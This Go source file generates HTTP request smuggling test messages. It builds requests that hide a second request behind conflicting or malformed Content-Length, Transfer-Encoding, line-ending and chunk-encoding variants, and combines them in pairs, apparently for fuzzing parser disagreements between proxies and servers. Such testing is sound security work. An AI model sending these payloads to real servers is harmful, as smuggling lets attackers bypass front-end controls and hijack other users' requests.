package smuggling

import (
	"fmt"
	"slices"
	"strings"
)

// A message is a request under construction, piece by piece, so that oddities
// can be combined. Lines carry their own ends.
type message struct {
	before  string // the start line
	method  string
	gap     string // between the parts of the start line
	target  string
	version string
	end     string   // of the start line
	host    string   // the Host line, with its end
	fields  []string // with their ends
	blank   string   // the empty line
	body    string
}

func (m message) bytes() string {
	return m.before + m.method + m.gap + m.target + m.gap + m.version + m.end + m.host + strings.Join(m.fields, "") + m.blank + m.body
}

func (m *message) add(field string) { m.fields = append(m.fields, field+"\r\n") }

func (m *message) addFirst(field string) { m.fields = slices.Insert(m.fields, 0, field+"\r\n") }

// hidden is the request that nobody shall see.
func hidden(id string) string {
	return "GET /hidden-" + id + " HTTP/1.1\r\nHost: hidden.test\r\n\r\n"
}

// A base is a message without oddities. Where its framing is read otherwise, the
// hidden request comes to light.
type base struct {
	name  string
	build func(id string) message
}

// An oddity changes a message in a way on which servers disagree, or might.
type oddity struct {
	name  string
	apply func(*message)
}

var bases = []base{
	{"length", func(id string) message {
		// By length it is one body; by chunks it ends at once.
		body := "0\r\n\r\n" + hidden(id)
		m := plain(id)
		m.add(fmt.Sprintf("Content-Length: %d", len(body)))
		m.body = body
		return m
	}},
	{"chunks", func(id string) message {
		// By chunks it is one body; by a length of 4 it ends behind the size line.
		m := plain(id)
		m.add("Transfer-Encoding: chunked")
		m.body = fmt.Sprintf("%02x\r\n%s\r\n0\r\n\r\n", len(hidden(id)), hidden(id))
		return m
	}},
	{"nothing", func(id string) message {
		// There is no body; what is behind is for whoever invents one.
		m := plain(id)
		m.method = "GET"
		return m
	}},
}

func plain(id string) message {
	return message{
		method: "POST", gap: " ", target: "/attack-" + id, version: "HTTP/1.1", end: "\r\n",
		host: "Host: attack.test\r\n", blank: "\r\n",
	}
}

// field is an oddity of one more field, behind the others or before them.
func field(text string) []oddity {
	return []oddity{
		{"field " + text, func(m *message) { m.add(text) }},
		{"first " + text, func(m *message) { m.addFirst(text) }},
	}
}

// framing are oddities of Content-Length and Transfer-Encoding.
func framing() (all []oddity) {
	for _, text := range []string{
		"Content-Length: 4", "Content-Length: 0", "Content-Length: +4", "Content-Length: -4", "Content-Length: 0x4", "Content-Length: 4, 4", "Content-Length: 4,5",
		"Content-Length: 4 5", "Content-Length: 18446744073709551620", "Content-Length: 4\x00", "Content-Length:\x0b4", "Content-Length : 4", "Content-Length: 4;a", "Content-Length:",
		"Content_Length: 4", "content-length: 004", "Content-Length:\r\n 4", "X: y\nContent-Length: 4", "X: y\rContent-Length: 4", "\x00Content-Length: 4", "Content-Length\x00: 4",
		"Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding:chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding:\x0bchunked", "Transfer-Encoding: xchunked",
		"Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: identity", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;q=1",
		"Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding: \x00chunked", "Transfer-Encoding:", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
		"Transfer-Encoding:\r\n chunked", "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked", "Transfer_Encoding: chunked", "TRANSFER-ENCODING: CHUNKED", "Transfer-Encoding: chunked\r\r\nX: y", " Transfer-Encoding: chunked",
		"Transfer-Encoding: chunked\x0c", "Transfer-Encoding\x0b: chunked", "Transfer-Encoding:\xa0chunked", "Transfer.Encoding: chunked", "X:\r\nTransfer-Encoding: chunked", ": x\r\nTransfer-Encoding: chunked", "NoColon\r\nTransfer-Encoding: chunked",
		"Connection: Content-Length", "Connection: Transfer-Encoding", "Connection: close, Content-Length, Transfer-Encoding", "Connection: Host",
	} {
		all = append(all, field(text)...)
	}
	return all
}

// heads are oddities of the start line and of other fields.
func heads() (all []oddity) {
	all = []oddity{
		{"LF behind the start line", func(m *message) { m.end = "\n" }},
		{"CR behind the start line", func(m *message) { m.end = "\r" }},
		{"LF as empty line", func(m *message) { m.blank = "\n" }},
		{"CR CR LF as empty line", func(m *message) { m.blank = "\r\r\n" }},
		{"LF behind Host", func(m *message) { m.host = "Host: attack.test\n" }},
		{"LF before the empty line", func(m *message) { m.fields = append(m.fields, "X: y\n") }},
		{"CRLF before", func(m *message) { m.before = "\r\n" }},
		{"LF before", func(m *message) { m.before = "\n" }},
		{"space before", func(m *message) { m.before = " " }},
		{"empty lines before", func(m *message) { m.before = "\r\n\r\n\r\n" }},
		{"two spaces", func(m *message) { m.gap = "  " }},
		{"tabs", func(m *message) { m.gap = "\t" }},
		{"HTTP/1.0", func(m *message) { m.version = "HTTP/1.0" }},
		{"HTTP/1.0 keep-alive", func(m *message) { m.version = "HTTP/1.0"; m.add("Connection: keep-alive") }},
		{"HTTP/1.2", func(m *message) { m.version = "HTTP/1.2" }},
		{"HTTP/0.9", func(m *message) { m.version = "HTTP/0.9" }},
		{"HTTP/2.0", func(m *message) { m.version = "HTTP/2.0" }},
		{"HTTP/1.1 in lower case", func(m *message) { m.version = "http/1.1" }},
		{"HTTP/1.1 twice", func(m *message) { m.version = "HTTP/1.1 HTTP/1.1" }},
		{"no version", func(m *message) { m.gap, m.version = " ", "" }},
		{"absolute form", func(m *message) { m.target = "http://attack.test" + m.target }},
		{"absolute form of another", func(m *message) { m.target = "http://other.test" + m.target }},
		{"space in the target", func(m *message) { m.target += " HTTP/1.1 x" }},
		{"line ends in the target, encoded", func(m *message) { m.target += "%0d%0aX:%20y%0d%0a%0d%0a" }},
		{"8-bit target", func(m *message) { m.target += "\xc4\x8a" }},
		{"fragment", func(m *message) { m.target += "#x" }},
		{"no Host", func(m *message) { m.host = "" }},
		{"two Hosts", func(m *message) { m.host += "Host: other.test\r\n" }},
		{"folded Host", func(m *message) { m.host = "Host:\r\n attack.test\r\n" }},
		{"huge field", func(m *message) { m.add("X: " + strings.Repeat("y", 20000)) }},
		{"many fields", func(m *message) { m.fields = append(m.fields, strings.Repeat("A: b\r\n", 120)) }},
		{"folded field before the framing", func(m *message) { m.addFirst("X: y\r\n z") }},
	}
	for _, method := range []string{"GET", "HEAD", "OPTIONS", "DELETE", "CONNECT", "TRACE", "PRI", "get"} {
		all = append(all, oddity{method, func(m *message) { m.method = method }})
	}
	for _, text := range []string{
		"Expect: 100-continue", "Expect: x", "Expect: 100-continue, x", "Connection: close", "Connection: keep-alive", "Connection: X-Request-Id, X-Forwarded-For",
		"Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13",
		"X: a\x00b", "X: a\x01b", "X Y: z", "X\t: y", "X : y", "Trailer: Content-Length", "TE: trailers, chunked", "X-HTTP-Method-Override: GET",
	} {
		all = append(all, oddity{"field " + text, func(m *message) { m.add(text) }})
	}
	return all
}

// chunks are oddities of a chunked body; they do nothing to one of a length.
func chunks() (all []oddity) {
	replace := func(name, old, with string, n int) {
		all = append(all, oddity{name, func(m *message) {
			if !strings.HasPrefix(m.body, "0\r\n") {
				m.body = strings.Replace(m.body, old, with, n)
			}
		}})
	}
	size := func(name string, f func(size string) string) {
		all = append(all, oddity{name, func(m *message) {
			if first, rest, ok := strings.Cut(m.body, "\r\n"); ok && first != "0" {
				m.body = f(first) + rest
			}
		}})
	}
	for _, ext := range []string{";a=b", ";a=\"b;\\\"c\"", ";", ";a\n", ";a\r", "; a = b", ";a\x00", ";\x80", " ", "\t", ";a=b\nX", ";\n" + "2d"} {
		size("extension "+ext, func(size string) string { return size + ext + "\r\n" })
	}
	for _, prefix := range []string{"0x", "+", "-", " ", "00000000", "00000000000000000", "1000000000000000", "\r\n", "\n", ";", "\x00"} {
		size("prefix "+prefix, func(size string) string { return prefix + size + "\r\n" })
	}
	size("size ends with LF", func(size string) string { return size + "\n" })
	size("size ends with CR", func(size string) string { return size + "\r" })
	size("size in upper case", func(size string) string { return strings.ToUpper(size) + "\r\n" })
	size("long extension", func(size string) string { return size + ";a=" + strings.Repeat("b", 600) + "\r\n" })
	replace("last chunk 00", "\r\n0\r\n\r\n", "\r\n00\r\n\r\n", 1)
	replace("last chunk with LF", "\r\n0\r\n\r\n", "\r\n0\n\r\n", 1)
	replace("empty line with LF", "\r\n0\r\n\r\n", "\r\n0\r\n\n", 1)
	replace("all LF at the end", "\r\n0\r\n\r\n", "\n0\n\n", 1)
	replace("last chunk with an extension", "\r\n0\r\n\r\n", "\r\n0;a=b\r\n\r\n", 1)
	replace("last chunk with a space", "\r\n0\r\n\r\n", "\r\n0 \r\n\r\n", 1)
	replace("data and two more bytes", "\r\n0\r\n\r\n", "XX0\r\n\r\n", 1)
	replace("data without CRLF", "\r\n0\r\n\r\n", "0\r\n\r\n", 1)
	replace("trailer Content-Length", "\r\n0\r\n\r\n", "\r\n0\r\nContent-Length: 9\r\n\r\n", 1)
	replace("trailer with a space", "\r\n0\r\n\r\n", "\r\n0\r\nX Y: 1\r\n\r\n", 1)
	replace("trailer folded", "\r\n0\r\n\r\n", "\r\n0\r\nX: 1\r\n 2\r\n\r\n", 1)
	replace("trailer with LF", "\r\n0\r\n\r\n", "\r\n0\r\nX: 1\nY: 2\r\n\r\n", 1)
	replace("no last chunk", "\r\n0\r\n\r\n", "\r\n", 1)
	return all
}

// A sample is a message with its names.
type sample struct {
	name  string
	build func(id string) string
}

// Messages are all messages as the bytes that they are for an id; of the pairs of
// oddities only every nth.
func Messages(nth int) (all []func(id string) string) {
	for _, s := range samples(nth) {
		all = append(all, s.build)
	}
	return all
}

// samples are all messages: each base with each oddity, and with every two
// oddities of different groups. Of the pairs only every nth is taken.
func samples(nth int) (all []sample) {
	groups := [][]oddity{framing(), heads(), chunks()}
	for _, b := range bases {
		all = append(all, combine(b))
		for _, group := range groups {
			for _, o := range group {
				all = append(all, combine(b, o))
			}
		}
	}
	n := 0
	for _, b := range bases {
		for i, group := range groups {
			for _, other := range groups[i+1:] {
				for _, o := range group {
					for _, p := range other {
						if n++; n%nth == 0 {
							all = append(all, combine(b, o, p))
						}
					}
				}
			}
		}
	}
	return all
}

func combine(b base, oddities ...oddity) sample {
	name := b.name
	for _, o := range oddities {
		short := o.name
		if len(short) > 60 {
			short = short[:60]
		}
		name += fmt.Sprintf(" + %q", short)
	}
	return sample{name, func(id string) string {
		m := b.build(id)
		for _, o := range oddities {
			o.apply(&m)
		}
		return m.bytes()
	}}
}
